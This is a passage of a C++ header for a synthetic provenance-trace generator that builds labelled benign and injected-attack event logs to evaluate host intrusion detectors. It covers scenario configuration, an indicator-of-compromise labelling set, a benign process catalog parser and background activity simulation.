#pragma once

#include <algorithm>
#include <array>
#include <charconv>
#include <cmath>
#include <cstdint>
#include <filesystem>
#include <fstream>
#include <map>
#include <random>
#include <set>
#include <sstream>
#include <string>
#include <string_view>
#include <vector>

#include <nlohmann/json.hpp>

#include "provkit/catalog_data.hpp"
#include "provkit/trace_io.hpp"
#include "provkit/uuid.hpp"

namespace provkit {

inline constexpr std::int64_t kDayNs = 86'400'000'000'000LL;
inline constexpr std::int64_t kMsNs = 1'000'000LL;

// ---------------------------------------------------------------------------
// Randomness

inline constexpr std::uint64_t splitmix64(std::uint64_t x) {
  x += 0x9E3779B97F4A7C15ULL;
  x = (x ^ (x >> 30)) * 0xBF58476D1CE4E5B9ULL;
  x = (x ^ (x >> 27)) * 0x94D049BB133111EBULL;
  return x ^ (x >> 31);
}

/// mt19937_64 with hand-rolled range helpers, so streams are identical across
/// standard libraries.
class Rng {
 public:
  explicit Rng(std::uint64_t seed) : eng_(seed) {}

  std::uint64_t next() { return eng_(); }

  /// Uniform integer in [lo, hi].
  std::uint64_t between(std::uint64_t lo, std::uint64_t hi) {
    const std::uint64_t range = hi - lo + 1;
    if (range == 0) return next();
    const std::uint64_t limit = UINT64_MAX - UINT64_MAX % range;
    std::uint64_t x;
    do x = next();
    while (x >= limit);
    return lo + x % range;
  }

  std::size_t index(std::size_t n) { return static_cast<std::size_t>(between(0, n - 1)); }
  double unit() { return static_cast<double>(next() >> 11) * 0x1.0p-53; }
  bool chance(double p) { return unit() < p; }

  template <class W>
  std::size_t weighted(const std::vector<std::pair<W, double>>& items) {
    double total = 0;
    for (const auto& [_, w] : items) total += w;
    double x = unit() * total;
    for (std::size_t i = 0; i < items.size(); ++i) {
      if (x < items[i].second) return i;
      x -= items[i].second;
    }
    return items.size() - 1;
  }

  std::string hex(std::size_t digits) {
    static constexpr char kDigits[] = "0123456789abcdef";
    std::string s(digits, '0');
    for (auto& c : s) c = kDigits[between(0, 15)];
    return s;
  }

 private:
  std::mt19937_64 eng_;
};

// ---------------------------------------------------------------------------
// Base64

namespace base64 {

inline constexpr std::string_view kAlphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

inline std::string encode(std::string_view in) {
  std::string out;
  out.reserve((in.size() + 2) / 3 * 4);
  std::size_t i = 0;
  for (; i + 2 < in.size(); i += 3) {
    const std::uint32_t v = (std::uint8_t(in[i]) << 16) | (std::uint8_t(in[i + 1]) << 8) | std::uint8_t(in[i + 2]);
    for (int s = 18; s >= 0; s -= 6) out += kAlphabet[(v >> s) & 63];
  }
  if (i + 1 == in.size()) {
    const std::uint32_t v = std::uint8_t(in[i]) << 16;
    out += kAlphabet[(v >> 18) & 63];
    out += kAlphabet[(v >> 12) & 63];
    out += "==";
  } else if (i + 2 == in.size()) {
    const std::uint32_t v = (std::uint8_t(in[i]) << 16) | (std::uint8_t(in[i + 1]) << 8);
    out += kAlphabet[(v >> 18) & 63];
    out += kAlphabet[(v >> 12) & 63];
    out += kAlphabet[(v >> 6) & 63];
    out += '=';
  }
  return out;
}

inline std::string decode(std::string_view in) {
  if (in.size() % 4 != 0) throw Error("base64: length is not a multiple of 4");
  std::string out;
  std::uint32_t acc = 0;
  int bits = 0;
  for (std::size_t i = 0; i < in.size(); ++i) {
    const char c = in[i];
    if (c == '=') {
      if (i + 2 < in.size()) throw Error("base64: padding in the middle");
      break;
    }
    const auto p = kAlphabet.find(c);
    if (p == std::string_view::npos) throw Error(std::string("base64: invalid character '") + c + "'");
    acc = (acc << 6) | static_cast<std::uint32_t>(p);
    bits += 6;
    if (bits >= 8) {
      bits -= 8;
      out += static_cast<char>((acc >> bits) & 0xFF);
    }
  }
  return out;
}

}  // namespace base64

// ---------------------------------------------------------------------------
// Scenario description

enum class HostProfile : std::uint8_t { stable, ever_changing };
enum class AttackKind : std::uint8_t { backdoor, mining, info_stealing };
enum class FpArchetype : std::uint8_t { sparse, unknown, semantic_change };

inline constexpr std::string_view to_string(HostProfile h) { return h == HostProfile::stable ? "stable" : "ever_changing"; }
inline constexpr std::string_view to_string(AttackKind a) {
  constexpr std::array<std::string_view, 3> n{"backdoor", "mining", "info_stealing"};
  return n[static_cast<std::size_t>(a)];
}
inline constexpr std::string_view to_string(FpArchetype f) {
  constexpr std::array<std::string_view, 3> n{"sparse", "unknown", "semantic_change"};
  return n[static_cast<std::size_t>(f)];
}

inline HostProfile host_profile_from_string(std::string_view s) {
  if (s == "stable") return HostProfile::stable;
  if (s == "ever_changing") return HostProfile::ever_changing;
  throw Error("unknown host profile '" + std::string(s) + "'");
}
inline AttackKind attack_from_string(std::string_view s) {
  for (auto a : {AttackKind::backdoor, AttackKind::mining, AttackKind::info_stealing})
    if (to_string(a) == s) return a;
  throw Error("unknown attack template '" + std::string(s) + "'");
}
inline FpArchetype fp_archetype_from_string(std::string_view s) {
  for (auto f : {FpArchetype::sparse, FpArchetype::unknown, FpArchetype::semantic_change})
    if (to_string(f) == s) return f;
  throw Error("unknown false-positive archetype '" + std::string(s) + "'");
}

struct ScenarioSpec {
  std::uint64_t seed = 1;
  std::size_t days = 2;
  std::size_t train_days = 1;  // leading days are training data
  HostProfile host_profile = HostProfile::stable;
  std::set<AttackKind> attacks;  // empty means none
  std::set<FpArchetype> fp_archetypes;
  std::size_t scale = 20000;  // approximate benign events per day
  double attack_divergence = 1.0;  // 0: attack processes mimic benign ones
  bool pre_deployment = false;     // info_stealing also runs, unlabeled, on training days
  bool novelty_ramp = false;       // unknown activity grows with each test day
  double imbalance = 0.0;          // share of short-lived open/close helpers (stable host)

  friend bool operator==(const ScenarioSpec&, const ScenarioSpec&) = default;

  void validate() const {
    if (days == 0) throw Error("scenario needs at least one day");
    if (train_days == 0 || train_days >= days) throw Error("train_days must be in [1, days)");
    if (scale == 0) throw Error("scale must be positive");
    if (attack_divergence < 0 || attack_divergence > 1) throw Error("attack_divergence must be in [0, 1]");
    if (imbalance < 0 || imbalance >= 1) throw Error("imbalance must be in [0, 1)");
  }
  bool is_test_day(std::size_t d) const { return d >= train_days; }
};

inline nlohmann::ordered_json to_json(const ScenarioSpec& s) {
  nlohmann::ordered_json j;
  j["seed"] = s.seed;
  j["days"] = s.days;
  j["train_days"] = s.train_days;
  j["host_profile"] = to_string(s.host_profile);
  auto& a = j["attacks"] = nlohmann::ordered_json::array();
  for (auto x : s.attacks) a.push_back(to_string(x));
  if (s.attacks.empty()) a.push_back("none");
  auto& f = j["fp_archetypes"] = nlohmann::ordered_json::array();
  for (auto x : s.fp_archetypes) f.push_back(to_string(x));
  j["scale"] = s.scale;
  j["attack_divergence"] = s.attack_divergence;
  j["pre_deployment"] = s.pre_deployment;
  j["novelty_ramp"] = s.novelty_ramp;
  j["imbalance"] = s.imbalance;
  return j;
}

template <class Json>
ScenarioSpec scenario_from_json(const Json& j) {
  static const std::set<std::string> known{"seed",         "days",     "train_days",     "host_profile",
                                           "attacks",      "fp_archetypes", "scale",     "attack_divergence",
                                           "pre_deployment", "novelty_ramp", "imbalance"};
  if (!j.is_object()) throw Error("scenario must be a JSON object");
  for (const auto& [k, _] : j.items())
    if (!known.contains(k)) throw Error("unknown scenario field '" + k + "'");
  ScenarioSpec s;
  s.seed = j.value("seed", s.seed);
  s.days = j.value("days", s.days);
  s.train_days = j.value("train_days", s.train_days);
  if (j.contains("host_profile")) s.host_profile = host_profile_from_string(j["host_profile"].template get<std::string>());
  if (j.contains("attacks"))
    for (const auto& x : j["attacks"]) {
      const auto name = x.template get<std::string>();
      if (name != "none") s.attacks.insert(attack_from_string(name));
    }
  if (j.contains("fp_archetypes"))
    for (const auto& x : j["fp_archetypes"]) s.fp_archetypes.insert(fp_archetype_from_string(x.template get<std::string>()));
  s.scale = j.value("scale", s.scale);
  s.attack_divergence = j.value("attack_divergence", s.attack_divergence);
  s.pre_deployment = j.value("pre_deployment", s.pre_deployment);
  s.novelty_ramp = j.value("novelty_ramp", s.novelty_ramp);
  s.imbalance = j.value("imbalance", s.imbalance);
  s.validate();
  return s;
}

inline constexpr std::array<std::string_view, 4> kPresetNames{"default", "mining", "ever_changing", "quiet"};

/// Named scenarios. "default" and "mining" are the same stable host with the
/// mining attack; "ever_changing" is a desktop with a week of test days and
/// no attack; "quiet" is a small attack-free stable host.
inline ScenarioSpec scenario_preset(std::string_view name, std::uint64_t seed = 42) {
  ScenarioSpec s;
  s.seed = seed;
  s.scale = 10000;
  if (name == "default" || name == "mining") {
    s.days = 5;
    s.train_days = 4;
    s.attacks = {AttackKind::mining};
    s.fp_archetypes = {FpArchetype::sparse, FpArchetype::unknown};
  } else if (name == "ever_changing") {
    s.host_profile = HostProfile::ever_changing;
    s.days = 10;
    s.train_days = 3;
    s.fp_archetypes = {FpArchetype::sparse, FpArchetype::unknown, FpArchetype::semantic_change};
  } else if (name == "quiet") {
    s.days = 4;
    s.train_days = 3;
    s.scale = 3000;
  } else {
    throw Error("unknown scenario preset '" + std::string(name) + "'");
  }
  return s;
}

/// Indicators of compromise of the injected attacks. Ground truth: an event
/// is malicious iff its subject or object matches one of these.
struct IocSet {
  std::set<std::string> process_paths;
  std::set<std::string> cmdlines;
  std::set<std::string> file_paths;
  std::set<std::string> registry_keys;
  std::set<std::string> domains;
  std::set<std::string> ips;

  bool empty() const {
    return process_paths.empty() && cmdlines.empty() && file_paths.empty() && registry_keys.empty() &&
           domains.empty() && ips.empty();
  }

  bool matches(const EntityAttrs& a) const {
    switch (a.kind) {
      case EntityKind::process:
        return process_paths.contains(a.path.string()) || (a.cmdline && cmdlines.contains(a.cmdline.string()));
      case EntityKind::file:
        return file_paths.contains(a.path.string());
      case EntityKind::registry_key:
        return registry_keys.contains(a.path.string());
      case EntityKind::network:
        return (a.domain && domains.contains(a.domain.string())) || (a.dst_ip && ips.contains(a.dst_ip.string()));
      case EntityKind::script:
        return false;
    }
    return false;
  }

  bool references(const Event& ev) const { return matches(ev.subject) || matches(ev.object); }
};

inline nlohmann::ordered_json to_json(const IocSet& s) {
  nlohmann::ordered_json j;
  j["process_paths"] = s.process_paths;
  j["cmdlines"] = s.cmdlines;
  j["file_paths"] = s.file_paths;
  j["registry_keys"] = s.registry_keys;
  j["domains"] = s.domains;
  j["ips"] = s.ips;
  return j;
}

// ---------------------------------------------------------------------------
// Benign catalog

struct Endpoint {
  std::string domain;  // may be empty
  std::string ip;
  std::uint16_t port = 0;
};

struct Archetype {
  std::string name;
  std::set<HostProfile> hosts;
  bool daemon = false;
  bool churn = false;
  std::string parent = "root";
  std::uint32_t pid = 0;
  double weight = 0;
  std::string path;
  std::string cmdline;
  std::pair<std::size_t, std::size_t> events{1, 1};
  std::vector<std::pair<ActionKind, double>> actions;
  std::vector<std::string> files, libs, registry;
  std::vector<std::string> net;  // "domain@ip:port", placeholders allowed
  std::string script_prefix;
  std::size_t script_pool = 1;
  std::vector<std::pair<std::string, double>> children;
  std::pair<std::size_t, std::size_t> child_count{0, 0};
  std::size_t startup = 0;  // daemons: fixed routine replayed at the start of every day
};

struct Catalog {
  int version = 0;
  std::vector<Archetype> archetypes;

  const Archetype* find(std::string_view name) const {
    for (const auto& a : archetypes)
      if (a.name == name) return &a;
    return nullptr;
  }
  const Archetype& at(std::string_view name) const {
    if (const auto* a = find(name)) return *a;
    throw Error("catalog has no archetype '" + std::string(name) + "'");
  }
};

namespace detail {

inline std::string_view trim(std::string_view s) {
  while (!s.empty() && (s.front() == ' ' || s.front() == '\t')) s.remove_prefix(1);
  while (!s.empty() && (s.back() == ' ' || s.back() == '\t' || s.back() == '\r')) s.remove_suffix(1);
  return s;
}

inline std::vector<std::string> split_list(std::string_view s) {
  std::vector<std::string> out;
  while (!s.empty()) {
    const auto comma = s.find(',');
    const auto item = trim(s.substr(0, comma));
    if (!item.empty()) out.emplace_back(item);
    if (comma == std::string_view::npos) break;
    s.remove_prefix(comma + 1);
  }
  return out;
}

template <class T>
T to_number(std::string_view s, std::size_t line) {
  T v{};
  if constexpr (std::is_floating_point_v<T>) {
    try {
      std::size_t used = 0;
      v = static_cast<T>(std::stod(std::string(s), &used));
      if (used != s.size()) throw std::invalid_argument("trailing");
    } catch (const std::exception&) {
      throw ParseError(line, "bad number '" + std::string(s) + "'");
    }
  } else {
    auto [p, ec] = std::from_chars(s.data(), s.data() + s.size(), v);
    if (ec != std::errc() || p != s.data() + s.size()) throw ParseError(line, "bad number '" + std::string(s) + "'");
  }
  return v;
}

inline std::pair<std::size_t, std::size_t> to_range(std::string_view s, std::size_t line) {
  const auto dash = s.find('-');
  if (dash == std::string_view::npos) {
    const auto v = to_number<std::size_t>(s, line);
    return {v, v};
  }
  const auto lo = to_number<std::size_t>(trim(s.substr(0, dash)), line);
  const auto hi = to_number<std::size_t>(trim(s.substr(dash + 1)), line);
  if (lo > hi) throw ParseError(line, "empty range '" + std::string(s) + "'");
  return {lo, hi};
}

inline bool to_bool(std::string_view s, std::size_t line) {
  if (s == "true") return true;
  if (s == "false") return false;
  throw ParseError(line, "expected true or false, got '" + std::string(s) + "'");
}

inline bool needs_pool(ActionKind a, const Archetype& x) {
  switch (a) {
    case ActionKind::read:
    case ActionKind::write:
    case ActionKind::open:
    case ActionKind::close:
    case ActionKind::del:
      return x.files.empty();
    case ActionKind::load:
      return x.libs.empty();
    case ActionKind::connect:
    case ActionKind::send:
    case ActionKind::recv:
      return x.net.empty();
    case ActionKind::modify_registry:
      return x.registry.empty();
    case ActionKind::run_script:
      return x.script_prefix.empty();
    case ActionKind::exec:
      return x.children.empty();
    case ActionKind::fork:
      return false;
  }
  return false;
}

}  // namespace detail

/// Parses the key-value catalog format shipped in data/benign_catalog.txt.
inline Catalog parse_catalog(std::string_view text) {
  Catalog c;
  Archetype* cur = nullptr;
  std::size_t line_no = 0;
  bool have_version = false;
  while (!text.empty()) {
    const auto nl = text.find('\n');
    const auto raw = text.substr(0, nl);
    text.remove_prefix(nl == std::string_view::npos ? text.size() : nl + 1);
    ++line_no;
    const auto line = detail::trim(raw);
    if (line.empty() || line.front() == '#') continue;
    if (line.front() == '[') {
      if (line.back() != ']' || !line.starts_with("[archetype."))
        throw ParseError(line_no, "bad section header '" + std::string(line) + "'");
      const auto name = std::string(line.substr(11, line.size() - 12));
      if (name.empty() || c.find(name)) throw ParseError(line_no, "duplicate or empty archetype '" + name + "'");
      c.archetypes.push_back({});
      cur = &c.archetypes.back();
      cur->name = name;
      continue;
    }
    const auto eq = line.find('=');
    if (eq == std::string_view::npos) throw ParseError(line_no, "expected key = value");
    const auto key = detail::trim(line.substr(0, eq));
    const auto val = detail::trim(line.substr(eq + 1));
    if (!cur) {
      if (key != "version") throw ParseError(line_no, "unknown top-level key '" + std::string(key) + "'");
      c.version = detail::to_number<int>(val, line_no);
      have_version = true;
      continue;
    }
    auto& a = *cur;
    if (key == "hosts") {
      for (const auto& h : detail::split_list(val)) a.hosts.insert(host_profile_from_string(h));
    } else if (key == "daemon") {
      a.daemon = detail::to_bool(val, line_no);
    } else if (key == "churn") {
      a.churn = detail::to_bool(val, line_no);
    } else if (key == "parent") {
      a.parent = std::string(val);
    } else if (key == "pid") {
      a.pid = detail::to_number<std::uint32_t>(val, line_no);
    } else if (key == "weight") {
      a.weight = detail::to_number<double>(val, line_no);
    } else if (key == "path") {
      a.path = std::string(val);
    } else if (key == "cmdline") {
      a.cmdline = std::string(val);
    } else if (key == "events") {
      a.events = detail::to_range(val, line_no);
    } else if (key == "actions" || key == "children") {
      for (const auto& item : detail::split_list(val)) {
        const auto colon = item.rfind(':');
        if (colon == std::string::npos) throw ParseError(line_no, "expected name:weight, got '" + item + "'");
        const auto w = detail::to_number<double>(item.substr(colon + 1), line_no);
        const auto name = item.substr(0, colon);
        if (key == "children") {
          a.children.emplace_back(name, w);
        } else {
          const auto act = action_kind_from_string(name);
          if (!act) throw ParseError(line_no, "unknown action '" + name + "'");
          a.actions.emplace_back(*act, w);
        }
      }
    } else if (key == "files") {
      a.files = detail::split_list(val);
    } else if (key == "libs") {
      a.libs = detail::split_list(val);
    } else if (key == "registry") {
      a.registry = detail::split_list(val);
    } else if (key == "net") {
      a.net = detail::split_list(val);
      for (const auto& n : a.net)
        if (n.find('@') == std::string::npos || n.rfind(':') == std::string::npos)
          throw ParseError(line_no, "network entry must look like domain@ip:port, got '" + n + "'");
    } else if (key == "scripts") {
      a.script_prefix = std::string(val);
    } else if (key == "script_pool") {
      a.script_pool = detail::to_number<std::size_t>(val, line_no);
    } else if (key == "startup") {
      a.startup = detail::to_number<std::size_t>(val, line_no);
    } else if (key == "child_count") {
      a.child_count = detail::to_range(val, line_no);
    } else {
      throw ParseError(line_no, "unknown key '" + std::string(key) + "'");
    }
  }
  if (!have_version) throw Error("catalog has no version");
  for (const auto& a : c.archetypes) {
    if (a.path.empty()) throw Error("archetype '" + a.name + "' has no path");
    if (a.hosts.empty()) throw Error("archetype '" + a.name + "' has no hosts");
    if (a.actions.empty()) throw Error("archetype '" + a.name + "' has no actions");
    if (a.daemon && a.pid == 0) throw Error("daemon '" + a.name + "' needs a pid");
    if (a.parent != "root" && !c.find(a.parent))
      throw Error("archetype '" + a.name + "' has unknown parent '" + a.parent + "'");
    for (const auto& [child, _] : a.children)
      if (!c.find(child)) throw Error("archetype '" + a.name + "' has unknown child '" + child + "'");
    for (const auto& [act, _] : a.actions)
      if (detail::needs_pool(act, a))
        throw Error("archetype '" + a.name + "' uses " + std::string(to_string(act)) + " without an object pool");
  }
  return c;
}

inline const Catalog& default_catalog() {
  static const Catalog c = parse_catalog(kBenignCatalog);
  return c;
}

// ---------------------------------------------------------------------------
// Output

struct AttackCmdline {
  std::string template_name;
  std::string cmdline;
  std::string encoded;
  std::string plaintext;
};

struct DayTrace {
  std::size_t day = 0;
  bool test = false;
  std::vector<Event> events;
  std::map<std::string, std::size_t> steps;       // template step -> events emitted
  std::map<std::string, std::size_t> archetypes;  // benign archetype -> instances
  std::size_t stripped = 0;                       // attack events exported with benign labels
  std::size_t sparse_scripts = 0;
  std::size_t unknown_processes = 0;
};

struct Scenario {
  ScenarioSpec spec;
  int catalog_version = 0;
  IocSet iocs;
  std::vector<AttackCmdline> cmdlines;
  std::vector<DayTrace> days;

  std::vector<Event> train_events() const { return concat(false); }
  std::vector<Event> test_events() const { return concat(true); }

 private:
  std::vector<Event> concat(bool test) const {
    std::vector<Event> out;
    for (const auto& d : days)
      if (d.test == test) out.insert(out.end(), d.events.begin(), d.events.end());
    for (std::size_t i = 0; i < out.size(); ++i) out[i].seq = i;
    return out;
  }
};

inline std::string day_file_name(std::size_t day) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "day_%02zu.jsonl", day);
  return buf;
}

inline nlohmann::ordered_json manifest(const Scenario& s) {
  nlohmann::ordered_json j;
  j["generator"] = "provkit-trace-gen";
  j["catalog_version"] = s.catalog_version;
  j["spec"] = to_json(s.spec);
  j["iocs"] = to_json(s.iocs);
  auto& cl = j["attack_cmdlines"] = nlohmann::ordered_json::array();
  for (const auto& c : s.cmdlines)
    cl.push_back({{"template", c.template_name}, {"cmdline", c.cmdline}, {"encoded", c.encoded}, {"plaintext", c.plaintext}});
  auto& days = j["days"] = nlohmann::ordered_json::array();
  for (const auto& d : s.days) {
    std::size_t mal = 0;
    for (const auto& e : d.events) mal += e.label == Label::malicious;
    nlohmann::ordered_json dj;
    dj["day"] = d.day;
    dj["file"] = day_file_name(d.day);
    dj["split"] = d.test ? "test" : "train";
    dj["events"] = d.events.size();
    dj["malicious"] = mal;
    dj["benign"] = d.events.size() - mal;
    dj["stripped_attack_events"] = d.stripped;
    dj["sparse_script_runs"] = d.sparse_scripts;
    dj["unknown_processes"] = d.unknown_processes;
    dj["steps"] = d.steps;
    dj["archetypes"] = d.archetypes;
    days.push_back(std::move(dj));
  }
  return j;
}

// ---------------------------------------------------------------------------
// Generation

namespace detail {

inline constexpr std::size_t kSparseTrainRuns = 40;
inline constexpr std::size_t kSparseTestRuns = 1000;
inline constexpr std::size_t kImagePool = 30;

struct HostNames {
  std::string src_ip;
  std::string sparse_path, sparse_cmdline, sparse_parent;
  std::string unknown_parent;
};

inline HostNames host_names(HostProfile h) {
  if (h == HostProfile::stable)
    return {"10.0.0.5", "/usr/lib/hwinfo/hwinfo-agent", "hwinfo-agent --collect-all", "systemd", "cron"};
  return {"192.168.1.23", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k HwInventory",
          "services", "explorer"};
}

class DayBuilder {
 public:
  DayBuilder(const ScenarioSpec& spec, const Catalog& cat, const IocSet& iocs, std::size_t day)
      : spec_(spec),
        cat_(cat),
        iocs_(iocs),
        names_(host_names(spec.host_profile)),
        rng_(splitmix64(spec.seed ^ splitmix64(0xD1CEull + day))),
        out_{day, spec.is_test_day(day), {}, {}, {}, 0, 0, 0},
        next_pid_(static_cast<std::uint32_t>(20000 + rng_.between(0, 5000))) {}

  Rng& rng() { return rng_; }
  /// Temporarily replaces the random stream; returns the previous one.
  Rng swap_rng(Rng r) {
    std::swap(r, rng_);
    return r;
  }
  DayTrace& out() { return out_; }
  std::size_t day() const { return out_.day; }
  bool test() const { return out_.test; }
  std::int64_t day_start() const { return static_cast<std::int64_t>(out_.day) * kDayNs; }
  std::int64_t at(double frac) const { return day_start() + static_cast<std::int64_t>(frac * static_cast<double>(kDayNs)); }
  const Catalog& catalog() const { return cat_; }
  const HostNames& names() const { return names_; }
  const ScenarioSpec& spec() const { return spec_; }

  std::uint32_t new_pid() {
    next_pid_ += static_cast<std::uint32_t>(rng_.between(1, 17));
    return next_pid_;
  }

  std::int64_t gap() { return static_cast<std::int64_t>(rng_.between(1, 3000)) * kMsNs; }

  /// Emits one event; labels follow the IOC set unless `strip` is set.
  void emit(std::int64_t ts, const EntityAttrs& s, ActionKind a, const EntityAttrs& o, const std::string& tag,
            bool strip = false) {
    ts = std::clamp(ts, day_start(), day_start() + kDayNs - 1);
    Event ev{0, ts, s, a, o, Label::benign};
    if (iocs_.references(ev)) {
      if (strip) ++out_.stripped;
      else ev.label = Label::malicious;
    }
    out_.events.push_back(std::move(ev));
    if (!tag.empty()) ++out_.steps[tag];
  }

  std::string expand(std::string_view tmpl) {
    std::string out;
    for (std::size_t i = 0; i < tmpl.size();) {
      if (tmpl[i] == '{') {
        const auto close = tmpl.find('}', i);
        if (close == std::string_view::npos) throw Error("unterminated placeholder in '" + std::string(tmpl) + "'");
        const auto key = tmpl.substr(i + 1, close - i - 1);
        if (key == "rand") out += rng_.hex(8);
        else if (key == "day") out += std::to_string(out_.day);
        else if (key == "ver") out += version_string();
        else if (key == "ipver") out += std::to_string(ip_version());
        else throw Error("unknown placeholder '{" + std::string(key) + "}'");
        i = close + 1;
      } else {
        out += tmpl[i++];
      }
    }
    return out;
  }

  EntityAttrs endpoint(std::string_view entry, std::uint16_t src_port) {
    const auto e = expand(entry);
    const auto at_pos = e.find('@');
    const auto colon = e.rfind(':');
    const auto port = static_cast<std::uint16_t>(std::stoul(e.substr(colon + 1)));
    return network_attrs(e.substr(0, at_pos), "", names_.src_ip, src_port, e.substr(at_pos + 1, colon - at_pos - 1),
                         port);
  }

  std::uint16_t ephemeral_port() { return static_cast<std::uint16_t>(rng_.between(32768, 60999)); }

  EntityAttrs daemon(const Archetype& a) {
    return process_attrs(a.pid, expand(a.path), expand(a.cmdline));
  }
  EntityAttrs daemon(std::string_view name) { return daemon(cat_.at(name)); }

 private:
  bool semantic_shift() const { return spec_.fp_archetypes.contains(FpArchetype::semantic_change) && out_.test; }
  std::string version_string() const {
    return semantic_shift() ? "4.2." + std::to_string(out_.day) : std::string("4.1.0");
  }
  int ip_version() const { return semantic_shift() ? 40 + static_cast<int>(out_.day % 200) : 10; }

  const ScenarioSpec& spec_;
  const Catalog& cat_;
  const IocSet& iocs_;
  HostNames names_;
  Rng rng_;
  DayTrace out_;
  std::uint32_t next_pid_;
};

// One running process and its open network sessions.
struct Instance {
  const Archetype* type = nullptr;
  EntityAttrs attrs;
  std::map<std::string, std::uint16_t> sessions;
};

inline std::int64_t act(DayBuilder& b, Instance& inst, ActionKind action, std::int64_t t, const std::string& tag,
                        int depth);

inline std::int64_t run_instance(DayBuilder& b, const Archetype& a, const EntityAttrs* parent, std::int64_t t,
                                 const std::string& tag, int depth) {
  Instance inst{&a, process_attrs(b.new_pid(), b.expand(a.path), b.expand(a.cmdline)), {}};
  ++b.out().archetypes[a.name];
  if (parent) b.emit(t, *parent, ActionKind::exec, inst.attrs, tag);
  std::size_t own = b.rng().between(a.events.first, a.events.second);
  std::size_t kids = depth < 3 ? b.rng().between(a.child_count.first, a.child_count.second) : 0;
  std::vector<std::pair<ActionKind, double>> mix;
  for (const auto& m : a.actions)
    if (m.first != ActionKind::exec) mix.push_back(m);
  while (own + kids > 0) {
    t += b.gap();
    const bool spawn = kids > 0 && b.rng().index(own + kids) < kids;
    if (spawn) {
      --kids;
      t = act(b, inst, ActionKind::exec, t, tag, depth);
    } else {
      --own;
      t = act(b, inst, mix[b.rng().weighted(mix)].first, t, tag, depth);
    }
  }
  return t;
}

inline std::int64_t act(DayBuilder& b, Instance& inst, ActionKind action, std::int64_t t, const std::string& tag,
                        int depth) {
  const Archetype& a = *inst.type;
  auto& rng = b.rng();
  const auto pick = [&](const std::vector<std::string>& pool) { return b.expand(pool[rng.index(pool.size())]); };
  switch (action) {
    case ActionKind::read:
    case ActionKind::write:
    case ActionKind::open:
    case ActionKind::close:
    case ActionKind::del:
      b.emit(t, inst.attrs, action, file_attrs(pick(a.files)), tag);
      break;
    case ActionKind::load:
      b.emit(t, inst.attrs, action, file_attrs(pick(a.libs)), tag);
      break;
    case ActionKind::modify_registry:
      b.emit(t, inst.attrs, action, registry_attrs(pick(a.registry)), tag);
      break;
    case ActionKind::run_script:
      b.emit(t, inst.attrs, action,
             script_attrs(a.script_prefix + " #" + std::to_string(rng.index(std::max<std::size_t>(a.script_pool, 1)))),
             tag);
      break;
    case ActionKind::connect:
    case ActionKind::send:
    case ActionKind::recv: {
      const auto& entry = a.net[rng.index(a.net.size())];
      auto it = inst.sessions.find(entry);
      if (action == ActionKind::connect || it == inst.sessions.end())
        it = inst.sessions.insert_or_assign(entry, b.ephemeral_port()).first;
      b.emit(t, inst.attrs, action, b.endpoint(entry, it->second), tag);
      break;
    }
    case ActionKind::exec: {
      if (a.children.empty()) break;
      const auto& child = b.catalog().at(a.children[rng.weighted(a.children)].first);
      return run_instance(b, child, &inst.attrs, t, tag, depth + 1);
    }
    case ActionKind::fork: {
      Instance kid{&a, process_attrs(b.new_pid(), inst.attrs.path.str(), inst.attrs.cmdline.str()), {}};
      b.emit(t, inst.attrs, ActionKind::fork, kid.attrs, tag);
      std::vector<std::pair<ActionKind, double>> mix;
      for (const auto& m : a.actions)
        if (m.first != ActionKind::exec && m.first != ActionKind::fork) mix.push_back(m);
      if (mix.empty()) break;
      for (std::size_t i = rng.between(1, 3); i > 0; --i) {
        t += b.gap();
        act(b, kid, mix[rng.weighted(mix)].first, t, tag, depth);
      }
      break;
    }
  }
  return t;
}

inline void benign_background(DayBuilder& b) {
  const auto& spec = b.spec();
  const auto& cat = b.catalog();
  auto& rng = b.rng();
  const auto on_host = [&](const Archetype& a) { return a.hosts.contains(spec.host_profile); };

  // Daemons: a startup routine that is the same every day, then activity
  // spread across the day.
  for (const auto& a : cat.archetypes) {
    if (!a.daemon || !on_host(a)) continue;
    Instance inst{&a, b.daemon(a), {}};
    ++b.out().archetypes[a.name];
    if (a.startup > 0) {
      auto day_rng = b.swap_rng(Rng(splitmix64(spec.seed ^ fnv1a64(a.name))));
      std::vector<std::pair<ActionKind, double>> mix;
      for (const auto& m : a.actions)
        if (m.first != ActionKind::exec && m.first != ActionKind::fork) mix.push_back(m);
      std::int64_t t = b.day_start() + static_cast<std::int64_t>(a.pid) * kMsNs;
      for (std::size_t i = 0; i < a.startup; ++i) act(b, inst, mix[b.rng().weighted(mix)].first, t += kMsNs, "", 0);
      b.swap_rng(std::move(day_rng));
    }
    const std::size_t n = rng.between(a.events.first, a.events.second);
    std::vector<std::int64_t> times(n);
    for (auto& t : times) t = b.at(rng.unit());
    std::sort(times.begin(), times.end());
    std::vector<std::pair<ActionKind, double>> mix;
    for (const auto& m : a.actions)
      if (m.first != ActionKind::exec) mix.push_back(m);
    for (auto t : times) act(b, inst, mix[rng.weighted(mix)].first, t, "", 0);
  }

  std::vector<std::pair<const Archetype*, double>> spawnable;
  const Archetype* churn = nullptr;
  for (const auto& a : cat.archetypes) {
    if (!on_host(a) || a.daemon) continue;
    if (a.churn) churn = &a;
    else if (a.weight > 0) spawnable.emplace_back(&a, a.weight);
  }
  if (spawnable.empty()) throw Error("catalog has no spawnable archetype for host " + std::string(to_string(spec.host_profile)));

  const auto parent_of = [&](const Archetype& a) -> std::optional<EntityAttrs> {
    if (a.parent == "root") return std::nullopt;
    return b.daemon(a.parent);
  };

  const auto budget = static_cast<double>(spec.scale);
  const std::size_t churn_budget = churn ? static_cast<std::size_t>(budget * spec.imbalance) : 0;
  const auto main_budget = static_cast<std::size_t>(budget) - churn_budget;
  while (b.out().events.size() < main_budget) {
    const auto& a = *spawnable[rng.weighted(spawnable)].first;
    const auto parent = parent_of(a);
    run_instance(b, a, parent ? &*parent : nullptr, b.at(rng.unit() * 0.95), "", 0);
  }
  const std::size_t end = b.out().events.size() + churn_budget;
  while (churn && b.out().events.size() < end) {
    const auto parent = parent_of(*churn);
    run_instance(b, *churn, parent ? &*parent : nullptr, b.at(rng.unit() * 0.99), "", 0);
  }
}

// -- false-positive archetypes ------------------------------------------------

inline void sparse_template(DayBuilder& b) {
  auto& rng = b.rng();
  const auto& n = b.names();
  const auto host = process_attrs(2210, n.sparse_path, n.sparse_cmdline);
